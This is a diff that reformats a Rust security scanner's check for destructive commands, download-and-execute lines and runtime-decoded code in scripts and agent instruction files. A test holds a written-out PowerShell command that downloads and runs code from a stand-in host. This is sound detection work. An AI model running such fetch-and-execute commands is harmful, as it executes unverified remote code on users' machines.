@@ -18,7 +18,9 @@ const SHOWN: usize = 100;
 
 /// The findings of one file.
 pub fn check_file(file: &File, queries: &QuerySet) -> Vec<Finding> {
-    let (Some(text), Some(shapes)) = (&file.text, queries.shapes("foreign-shapes")) else { return Vec::new() };
+    let (Some(text), Some(shapes)) = (&file.text, queries.shapes("foreign-shapes")) else {
+        return Vec::new();
+    };
     let is_script = file.kind == Kind::Script && file.language.is_none();
     let is_document = file.kind == Kind::Markdown && file.language.is_none();
     let is_prose = file.kind == Kind::Text && instructions::is_prose(&file.path);
@@ -42,7 +44,8 @@ pub fn check_file(file: &File, queries: &QuerySet) -> Vec<Finding> {
         let Some(found) = found else { continue };
         let known = out.iter().rev().take(8).any(|other| {
             other.rule == found.rule
-                && other.place.as_ref().map(|place| place.line) == found.place.as_ref().map(|place| place.line)
+                && other.place.as_ref().map(|place| place.line)
+                    == found.place.as_ref().map(|place| place.line)
         });
         if !known && out.len() < MOST {
             out.push(found);
@@ -57,7 +60,9 @@ fn finding(hit: &Hit<'_>, text: &Text, place: Place, is_script: bool, queries: &
     let (rule, message) = match (hit.shape.kind.as_str(), is_script) {
         ("destroy", _) => (Rule::DestructiveCommand, format!("destroys what cannot be had back: {label}")),
         ("download-exec", true) => (Rule::HygieneDownloadExec, format!("runs what it downloads: {label}")),
-        ("decoded", true) => (Rule::HygieneDynamicExec, format!("runs code that is put together as it runs: {label}")),
+        ("decoded", true) => {
+            (Rule::HygieneDynamicExec, format!("runs code that is put together as it runs: {label}"))
+        }
         (_, true) => return None,
         ("download-exec", false) => match address(code) {
             Some(address) if is_official(queries, address) => (
@@ -70,8 +75,13 @@ fn finding(hit: &Hit<'_>, text: &Text, place: Place, is_script: bool, queries: &
             ),
             None => (Rule::InstructedDownloadExec, format!("has the agent run what it downloads: {label}")),
         },
-        ("decoded", false) => (Rule::InstructedDownloadExec, format!("has the agent run what it decodes: {label}")),
-        _ => (Rule::InstructedDownloadExec, format!("has the agent open what nothing on the way has checked: {label}")),
+        ("decoded", false) => {
+            (Rule::InstructedDownloadExec, format!("has the agent run what it decodes: {label}"))
+        }
+        _ => (
+            Rule::InstructedDownloadExec,
+            format!("has the agent open what nothing on the way has checked: {label}"),
+        ),
     };
     Some(Finding::at(rule, place, message))
 }
@@ -97,7 +107,10 @@ fn is_told(shown: &[(Span, Context)], hit: &Hit<'_>) -> bool {
 /// `# …`, `REM …`, `:: …`, `' …`: a remark of these languages.
 fn is_comment(text: &Text, span: Span) -> bool {
     let line = text.line(text.line_of(span.start)).trim_start().to_ascii_lowercase();
-    line.starts_with(['#', '\'', ';']) || line.starts_with("::") || line.starts_with("rem ") || line.starts_with("@rem ")
+    line.starts_with(['#', '\'', ';'])
+        || line.starts_with("::")
+        || line.starts_with("rem ")
+        || line.starts_with("@rem ")
 }
 
 /// Whether nothing but a prompt stands before it on its line.
@@ -138,8 +151,16 @@ mod tests {
             let fence = format!("Run:\n\n```powershell\n{code}\n```\n");
             assert_eq!(of("a.md", &fence), ["INSTRUCTED_DOWNLOAD_EXEC a.md:4"], "{code}");
             assert_eq!(of("a.md", &format!("Run `{code}`.")), ["INSTRUCTED_DOWNLOAD_EXEC a.md:1"], "{code}");
-            assert_eq!(of("a.md", &format!("Never do this:\n\n```powershell\n{code}\n```\n")), [""; 0], "{code}");
-            assert_eq!(of("a.txt", &format!("PS C:\\> {code}")), ["INSTRUCTED_DOWNLOAD_EXEC a.txt:1"], "{code}");
+            assert_eq!(
+                of("a.md", &format!("Never do this:\n\n```powershell\n{code}\n```\n")),
+                [""; 0],
+                "{code}"
+            );
+            assert_eq!(
+                of("a.txt", &format!("PS C:\\> {code}")),
+                ["INSTRUCTED_DOWNLOAD_EXEC a.txt:1"],
+                "{code}"
+            );
         }
     }
 
@@ -162,7 +183,10 @@ mod tests {
             assert_eq!(of("a.ps1", &format!("# x\n{code}\n")), ["DESTRUCTIVE_COMMAND a.ps1:2"], "{code}");
             assert_eq!(of("a.ps1", &format!("# {code}\n")), [""; 0], "{code}");
         }
-        assert_eq!(of("a.bat", "powershell -c \"irm https://a.example/x | iex\""), ["HYGIENE_DOWNLOAD_EXEC a.bat:1"]);
+        assert_eq!(
+            of("a.bat", "powershell -c \"irm https://a.example/x | iex\""),
+            ["HYGIENE_DOWNLOAD_EXEC a.bat:1"]
+        );
     }
 
     #[test]
